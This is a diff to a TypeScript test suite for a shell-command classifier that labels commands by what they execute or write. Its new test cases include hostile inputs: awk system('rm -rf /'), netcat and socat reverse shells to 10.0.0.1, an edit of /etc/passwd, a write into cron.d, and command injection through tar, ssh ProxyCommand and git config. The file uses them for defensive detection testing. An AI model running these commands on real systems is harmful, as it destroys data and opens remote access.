@@ -177,9 +177,9 @@ const wrappers: readonly Case[] = [
     ['exec find . -name *.tmp -print0', 'exec xargs -0 -n 1 -P4 rm -f', 'exec rm -f {}'],
   ],
   [
-    'xargs -I places the input itself',
+    'xargs -I places the input itself (mv of an unknown file)',
     'xargs -I{} mv {} /tmp',
-    ['exec xargs -I{} mv {} /tmp', 'exec mv {} /tmp'],
+    ['exec xargs -I{} mv {} /tmp', 'exec mv {} /tmp', 'unknown'],
   ],
   ['xargs alone runs echo', 'xargs', ['exec xargs', 'exec echo {}']],
   [
@@ -372,8 +372,76 @@ const environment: readonly Case[] = [
   ],
 ];
 
+const programs: readonly Case[] = [
+  ['plain awk', `awk '{print $1}' f`, ['exec awk {print $1} f']],
+  ['awk comparison is not a redirection', `awk '$3 > max' f`, ['exec awk $3 > max f']],
+  [
+    'awk system() is unknown',
+    `awk 'BEGIN{system("rm -rf /")}'`,
+    ['exec awk BEGIN{system("rm -rf /")}', 'unknown'],
+  ],
+  [
+    'awk printing to a file is unknown',
+    `awk '{print > "/etc/x"}' f`,
+    ['exec awk {print > "/etc/x"} f', 'unknown'],
+  ],
+  [
+    'sed -i writes its files',
+    `sed -i 's/a/b/' /etc/passwd`,
+    ['exec sed -i s/a/b/ /etc/passwd', 'write /etc/passwd'],
+  ],
+  ['plain sed', `sed -n '/error/p' f`, ['exec sed -n /error/p f']],
+  ['sed s///e is unknown', `sed 's/a/b/e' f`, ['exec sed s/a/b/e f', 'unknown']],
+  ['sed e command is unknown', `sed '1e rm x' f`, ['exec sed 1e rm x f', 'unknown']],
+  [
+    'tar --checkpoint-action=exec',
+    `tar cf /dev/null . --checkpoint=1 --checkpoint-action=exec='rm x'`,
+    ['exec tar cf /dev/null . --checkpoint=1 --checkpoint-action=exec=rm x', 'exec rm x'],
+  ],
+  [
+    'ssh ProxyCommand',
+    `ssh -o ProxyCommand='nc %h %p; rm x' host`,
+    ['exec ssh -o ProxyCommand=nc %h %p; rm x host', 'exec nc %h %p', 'exec rm x'],
+  ],
+  ['git -c core.pager', `git -c core.pager='rm x' log`, ['exec git -c core.pager=rm x log', 'exec rm x']],
+  ['git shell alias', `git -c alias.x='!rm y' x`, ['exec git -c alias.x=!rm y x', 'exec rm y']],
+  [
+    'nc -e runs a program',
+    'nc -e /bin/sh 10.0.0.1 80',
+    ['exec nc -e /bin/sh 10.0.0.1 80', 'exec /bin/sh', 'unknown'],
+  ],
+  [
+    'socat EXEC is unknown',
+    'socat TCP:10.0.0.1:80 EXEC:sh',
+    ['exec socat TCP:10.0.0.1:80 EXEC:sh', 'unknown'],
+  ],
+  [
+    'cp writes its destination',
+    'cp -r /tmp/a /etc/cron.d/',
+    ['exec cp -r /tmp/a /etc/cron.d/', 'write /etc/cron.d/'],
+  ],
+  [
+    'mv writes both ends',
+    'mv /etc/passwd /tmp/p',
+    ['exec mv /etc/passwd /tmp/p', 'write /etc/passwd', 'write /tmp/p'],
+  ],
+  ['curl -o writes', 'curl -fsSLo /etc/x http://a', ['exec curl -fsSLo /etc/x http://a', 'write /etc/x']],
+  ['wget to stdout writes nothing', 'wget -O- http://a', ['exec wget -O- http://a']],
+  [
+    'rsync -e runs its shell',
+    `rsync -avz -e 'ssh -p 22' a b:c`,
+    ['exec rsync -avz -e ssh -p 22 a b:c', 'exec ssh -p 22'],
+  ],
+  [
+    'find -exec mv moves unknown files',
+    'find . -exec mv {} /tmp \\;',
+    ['exec find . -exec mv {} /tmp ;', 'exec mv {} /tmp', 'unknown'],
+  ],
+];
+
 describe('classifyShellCommand', () => {
   const groups = {
+    programs,
     simple,
     substitutions,
     heredocs,
